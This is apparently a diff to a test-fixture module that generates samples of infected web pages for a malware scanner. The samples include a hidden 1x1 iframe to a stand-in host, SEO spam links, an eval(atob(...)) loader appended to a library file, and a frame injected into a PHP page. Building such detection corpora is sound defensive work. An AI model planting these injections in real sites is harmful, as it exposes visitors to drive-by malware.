@@ -1,6 +1,6 @@
 /** Pages into which something was put; our own writing. */
 import { backwards, base64, letters, percent } from './pieces.ts';
-import { sample, type Sample } from './sample.ts';
+import { fill, sample, type Sample } from './sample.ts';
 
 const frame = '<ifr«»ame src="http://bad-host.invalid/in.php" width=1 height=1></ifr«»ame>';
 const links = (n: number): string => Array.from({ length: n }, (_, i) => `<a href="http://seo-site-${i}.invalid/">good shoes</a>`).join(' ');
@@ -19,7 +19,7 @@ const ways: Readonly<Record<string, readonly string[]>> = {
 };
 
 export function pageSamples(): Sample[] {
-  const bytes = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');
+  const bytes = (text: string): string => Buffer.from(fill(text), 'utf8').toString('latin1');
   return [...Object.entries(ways).flatMap(([family, pages]) => pages.map((page, i) => sample(`page ${family}`, `page ${family} ${i + 1}`, bytes(page), '/var/www/html/index.html'))),
     sample('page loader', 'library with a tail', `(function () { var tea = 1; window.tea = tea; })();\neval(atob('${base64(loader)}'));\n`, '/var/www/html/lib.js'), sample('page hidden frame', 'in a PHP page', `<?php echo 'tea'; ?>\n${wrap(frame)}`, '/var/www/html/index.php')];
 }
